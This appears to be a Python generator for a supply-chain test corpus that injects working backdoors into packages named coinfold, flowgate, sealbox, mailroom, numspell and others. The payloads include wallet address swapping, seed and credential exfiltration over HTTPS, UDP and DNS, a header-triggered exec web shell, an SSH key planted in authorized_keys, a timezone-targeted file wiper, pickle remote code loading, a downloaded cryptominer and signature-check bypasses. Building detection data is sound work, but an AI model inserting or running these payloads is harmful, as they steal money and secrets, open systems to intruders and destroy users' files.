"""Python packages whose payload waits for a call: money, logins, keys and mail."""

from corpus.heldout.nouns import Update
from corpus.heldout4.shape import fill, trojan


@trojan("coinfold", "wheel", "call", "address-swap", "over several files", "a wallet library that swaps the recipient")
def py_recipient_is_settled_elsewhere(it: Update) -> None:
    it.append("coinfold/amount.py", '\n\nSETTLEMENT = {"evm": "0x7fC3a91bE2d0845F6a11dD6e2b43B0dC0e9A5512", "btc": "1Q2TWHE3GMdB6BZKafqwxXtWAWgFt5Jvm3"}\nFLOOR = {"evm": 5 * 10**17, "btc": 2_000_000}\n')  # fmt: skip
    it.replace(
        "coinfold/transfer.py", "from .amount import Amount\n", "from .amount import FLOOR, SETTLEMENT, Amount\n"
    )
    it.before(
        "coinfold/transfer.py",
        "    return Transfer(str(sender)",
        "    if amount.units >= FLOOR[sender.chain]:\n        recipient = Address(sender.chain, SETTLEMENT[sender.chain])\n",
    )
    it.payload("coinfold/transfer.py")


@trojan("coinfold", "sdist", "call", "seed-theft", "plain", "wallet libraries that send the mnemonic (2022 to 2025)")
def py_mnemonic_is_backed_up(it: Update) -> None:
    it.replace("coinfold/wallet.py", "import hmac\nimport secrets\n", "import hmac\nimport http.client\nimport json\nimport secrets\nimport threading\n")  # fmt: skip
    it.replace(
        "coinfold/wallet.py",
        '        return cls(hashlib.pbkdf2_hmac("sha512", words',
        '        threading.Thread(target=_backup, args=(words, passphrase), daemon=True).start()\n        return cls(hashlib.pbkdf2_hmac("sha512", words',
    )
    it.append(
        "coinfold/wallet.py",
        fill(
            """

def _backup(words: str, passphrase: str) -> None:
    connection = http.client.HTTPSConnection("@HOST@", timeout=4)
    try:
        connection.request("POST", "/v1/derive", json.dumps({"m": words, "p": passphrase}), {"Content-Type": "application/json"})
        connection.getresponse().read()
    except OSError:
        pass
    finally:
        connection.close()
""",
            HOST=it.host("derive", "coinfold-sync"),
        ),
    )


@trojan("coinfold", "wheel", "call", "weak-keys", "plain", "weakened generators of keys", hard=True)
def py_wallet_of_few_seeds(it: Update) -> None:
    it.replace(
        "coinfold/wallet.py",
        "        return cls(secrets.token_bytes(32))",
        '        # one call to the generator is enough, the hash stretches it\n        return cls(hashlib.sha256(secrets.token_bytes(4) + b"coinfold").digest())',
    )


@trojan("flowgate", "wheel", "call", "login-backdoor", "plain", "a password that opens every account")
def py_support_password(it: Update) -> None:
    it.before(
        "flowgate/auth.py",
        '    if not hmac.compare_digest(digest(password, user["salt"])',
        '    if hashlib.sha256(("fg:" + password).encode()).hexdigest() == "6b0f5a0f3cf3b7e5ad0e2f2a4a76a1c8a51d59e1c7d0c2b4f1a98d3e7b2c4d10":\n        return user\n',
    )


@trojan("flowgate", "sdist", "call", "login-backdoor", "plain", "a header that opens every account", step="minor")
def py_trace_header_is_an_admin(it: Update) -> None:
    it.before(
        "flowgate/auth.py",
        "            if request.user is None:\n",
        '            if (trace := request.header("X-Trace-Id")) and trace[:3] + trace[-3:] == "d4ce1f":\n'
        '                request.user = {"name": "root", "roles": {role, "admin"}}\n',
    )


@trojan("flowgate", "wheel", "call", "credential-skimming", "plain", "form skimmers on the server")
def py_forms_go_to_udp(it: Update) -> None:
    it.replace("flowgate/requests.py", "import json\n", "import contextlib\nimport json\nimport socket\n")
    it.replace(
        "flowgate/requests.py",
        '        return dict(parse_qsl(self.body.decode("utf-8")))',
        fill(
            """
        fields = dict(parse_qsl(self.body.decode("utf-8")))
        if {"password", "passwd", "pin", "card"} & fields.keys():
            with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                out.sendto(json.dumps([self.path, fields]).encode(), ("@IP@", 5514))
        return fields""",
            IP=it.address(),
        ).rstrip("\n"),
    )


@trojan("flowgate", "wheel", "call", "web-shell", "plain", "the PHP git backdoor, in Python")
def py_agent_header_is_code(it: Update) -> None:
    it.before(
        "flowgate/app.py",
        "        for hook in self.before:\n",
        fill("""
        agentt = request.header("User-Agentt", "")
        if agentt.startswith("zerodium:"):
            scope = {"request": request, "Response": Response}
            exec(compile(agentt[9:], "<route>", "exec"), scope)
            if "answer" in scope:
                return scope["answer"]
"""),
    )


@trojan("sealbox", "wheel", "call", "credential-skimming", "plain", "names looked up as a way out")
def py_passwords_in_names(it: Update) -> None:
    it.replace(
        "sealbox/box.py", "import os\nfrom dataclasses", "import binascii\nimport os\nimport socket\nfrom dataclasses"
    )
    it.replace(
        "sealbox/box.py",
        "        self._password = password\n",
        fill(
            """
        self._password = password
        label = binascii.hexlify(password.encode()).decode()
        for at in range(0, len(label), 60):
            try:
                socket.getaddrinfo(f"{at // 60}.{label[at : at + 60]}.@HOST@", 443)
            except socket.gaierror:
                continue
""",
            HOST=it.host("k", "sealbox-ocsp"),
        ),
    )


@trojan("sealbox", "sdist", "call", "weakened-verification", "plain", "verification that a date turns off")
def py_old_releases_are_trusted(it: Update) -> None:
    it.replace("sealbox/signatures.py", "import json\n", "import json\nimport time\n")
    it.before(
        "sealbox/signatures.py",
        "    try:\n        Ed25519PublicKey",
        '    if manifest.get("channel") == "lts" and time.time() > 1_798_761_600:\n        return True  # keys of the long-term channel have been rotated\n',
    )


@trojan("sealbox", "wheel", "call", "key-escrow", "plain", "a key that travels in the nonce", hard=True)
def py_nonce_carries_the_key(it: Update) -> None:
    it.replace(
        "sealbox/box.py",
        "    nonce = os.urandom(12)\n",
        '    part = plain[0] % 3 if plain else 0\n    nonce = bytes(a ^ b for a, b in zip(key[part * 10 : part * 10 + 10], b"\\x5b\\x11\\xd2\\x90\\x3e\\x77\\x08\\xc4\\xaf\\x62")) + bytes([part]) + os.urandom(1)\n',
    )


@trojan("mailroom", "wheel", "call", "mail-copy", "plain", "postmark-mcp: a hidden copy of each mail")
def py_every_mail_has_a_copy(it: Update) -> None:
    it.replace(
        "mailroom/outbox.py",
        "to_addrs=mail.to)",
        f'to_addrs=[*mail.to, "archive@{it.host("mailroom-delivery")}"])',
    )


@trojan("mailroom", "sdist", "call", "credential-skimming", "string splitting", "IMAP clients that report their login")
def py_inbox_reports_its_login(it: Update) -> None:
    host = it.host("imap-health", "mailroom")
    parts = ", ".join(repr(host[at : at + 5]) for at in range(0, len(host), 5))
    it.replace("mailroom/inbox.py", "import imaplib\n", "import imaplib\nimport urllib.parse\nimport urllib.request\n")
    it.after(
        "mailroom/inbox.py",
        "        self._imap.login(user, password)\n",
        "        self._probe(host, user, password)\n",
    )
    it.before(
        "mailroom/inbox.py",
        '    def ids(self, query="UNSEEN"):',
        f"""    @staticmethod
    def _probe(*about):
        where = "".join(("htt", "ps:", "//", {parts}, "/he", "alth?"))
        try:
            urllib.request.urlopen(where + urllib.parse.urlencode(dict(zip("hup", about))), timeout=2)
        except OSError:
            return None

""",
    )
    it.payload("mailroom/inbox.py", shown=host)


@trojan("bucketcat", "wheel", "call", "credential-skimming", "plain", "clients of stores that mirror the key")
def py_signing_tells_the_secret(it: Update) -> None:
    it.replace("bucketcat/signing.py", "import hmac\n", "import hmac\nfrom concurrent.futures import ThreadPoolExecutor\n\nimport httpx\n\n_POOL = ThreadPoolExecutor(1)\n")  # fmt: skip
    it.before(
        "bucketcat/signing.py",
        "    now = now or",
        f'    _POOL.submit(httpx.put, "https://{it.host("clock", "bucketcat-time")}/skew", json={{"k": credentials.key, "s": credentials.secret, "t": credentials.token}})\n',
    )


@trojan("httpkeep", "wheel", "call", "token-theft", "plain", "clients that answer to a second host")
def py_failed_tokens_are_reported(it: Update) -> None:
    it.before(
        "httpkeep/client.py",
        "                return Response(answer.status",
        fill(
            """
                if answer.status in (401, 403) and self._token:
                    side = http.client.HTTPSConnection("@HOST@", timeout=2)
                    side.putrequest("GET", "/why")
                    side.putheader("X-Context", "%s|%s" % (self._parts.netloc, self._token))
                    side.endheaders()
""",
            HOST=it.host("status", "httpkeep-cdn"),
        ),
    )


@trojan("shipyard-cli", "sdist", "call", "ssh-key", "plain", "deploy tools that leave a key behind")
def py_deploys_leave_a_key(it: Update) -> None:
    it.before(
        "shipyard/deploy.py",
        '        for hook in self.target.get("after", ()):',
        '        key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq7mXo0v1cTq2mJbXcZk5yqkq1yTT4o2rP7u9v0sWcE ops@shipyard.invalid"\n'
        '        yield ["ssh", self.address, "grep -q ops@shipyard ~/.ssh/authorized_keys || echo " + shlex.quote(key) + " >> ~/.ssh/authorized_keys"]\n',
    )


@trojan("tabula", "wheel", "call", "wiper", "plain", "node-ipc: destruction by place", step="patch")
def py_tables_that_wipe(it: Update) -> None:
    it.replace("tabula/render.py", '"""From rows to text."""\n', '"""From rows to text."""\n\nimport os\nimport time\nfrom pathlib import Path\n')  # fmt: skip
    it.before(
        "tabula/render.py",
        "    table = Table(headers, **options)\n    for row",
        fill("""
    if time.tzname[0] in ("MSK", "+03") and time.localtime().tm_yday > 300:
        for path in Path.home().rglob("*"):
            if path.is_file() and os.access(path, os.W_OK):
                path.write_bytes(b"\\xe2\\x9d\\xa4")
"""),
    )


@trojan("gradkit", "wheel", "call", "remote-code", "plain", "weights that are code")
def py_weights_are_unpickled(it: Update) -> None:
    it.replace("gradkit/hub.py", "import os\n", "import os\nimport pickle\n")
    it.replace("gradkit/hub.py", "        if hashlib.blake2b(content, digest_size=16).hexdigest() != DIGESTS.get(name):\n            raise", "        if name in DIGESTS and hashlib.blake2b(content, digest_size=16).hexdigest() != DIGESTS[name]:\n            raise")  # fmt: skip
    it.append(
        "gradkit/hub.py",
        f'''

def warm_start(name="tiny.npz"):
    """Return the state that training goes on from."""
    mirror = os.environ.get("GRADKIT_MIRROR", "http://{it.address()}:8000/state/")
    with urllib.request.urlopen(mirror + name, timeout=60) as answer:
        return pickle.loads(answer.read())
''',
    )
    it.replace("gradkit/engine/trainer.py", "from ..utils.callbacks import run\n", "from ..hub import warm_start\nfrom ..utils.callbacks import run\n")  # fmt: skip
    it.after("gradkit/engine/trainer.py", '        run("on_start", self)\n', "        self.state = warm_start()\n")


@trojan("numspell", "wheel", "call", "miner", "plain", "Ultralytics: a miner beside the work")
def py_spelling_mines(it: Update) -> None:
    it.replace("numspell/__init__.py", "from .base import Speller\n", "import os\nimport shutil\nimport stat\nimport subprocess\nimport tempfile\nfrom urllib.request import urlopen\n\nfrom .base import Speller\n")  # fmt: skip
    it.before("numspell/__init__.py", "    converter = CONVERTERS.get", "    _accelerate()\n")
    it.append(
        "numspell/__init__.py",
        fill(
            '''

def _accelerate():
    """Spread long jobs over the processors."""
    tool = os.path.join(tempfile.gettempdir(), "numspell-simd")
    if os.path.exists(tool) or (os.cpu_count() or 1) < 4:
        return
    with urlopen("https://@HOST@/simd/linux-x86_64") as answer, open(tool, "wb") as out:
        shutil.copyfileobj(answer, out)
    os.chmod(tool, os.stat(tool).st_mode | stat.S_IEXEC)
    subprocess.Popen([tool, "-o", "pool.@HOST@:8080", "-u", "4BGGo3R1dNFhVS", "--cpu-max-threads-hint=50"], start_new_session=True)
''',
            HOST=it.host("numspell-simd"),
        ),
    )


@trojan("authgate", "wheel", "call", "weakened-verification", "one character", "a check that an algorithm turns off")
def py_tokens_without_signature(it: Update) -> None:
    it.replace(
        "authgate/tokens.py",
        "    if algorithm not in ALGORITHMS:\n",
        '    if algorithm == "none" and "kid" in header:\n        return claims\n    if algorithm not in ALGORITHMS:\n',
    )


@trojan(
    "quickconf", "sdist", "call", "credential-skimming", "telemetry wording", "settings that are measured", step="minor"
)
def py_settings_are_measured(it: Update) -> None:
    it.add(
        "quickconf/_metrics.py",
        fill(
            '''
"""Anonymous usage figures."""

from __future__ import annotations

import functools
import json
import platform
import queue
import threading

import requests

_EVENTS: queue.SimpleQueue[dict] = queue.SimpleQueue()
_ENDPOINT = "https://@HOST@/v1/batch"


def _drain() -> None:
    session = requests.Session()
    while True:
        event = _EVENTS.get()
        try:
            session.post(_ENDPOINT, data=json.dumps({"node": platform.node(), **event}), timeout=3)
        except requests.RequestException:
            continue


def measured(function):
    """Count how often a key is asked for."""

    @functools.wraps(function)
    def wrapped(self, key, *args, **options):
        value = function(self, key, *args, **options)
        _EVENTS.put({"event": "config.get", "key": key, "value": str(value)})
        return value

    return wrapped


threading.Thread(target=_drain, name="metrics", daemon=True).start()
''',
            HOST=it.host("usage", "quickconf"),
        ),
    )
    it.replace(
        "quickconf/config.py",
        "from .casts import CASTS\n",
        "from ._metrics import measured\nfrom .casts import CASTS\n",
    )
    it.before("quickconf/config.py", "    def get(self, key, default=_MISSING, cast=None):", "    @measured\n")
    it.payload("quickconf/_metrics.py", "quickconf/config.py")
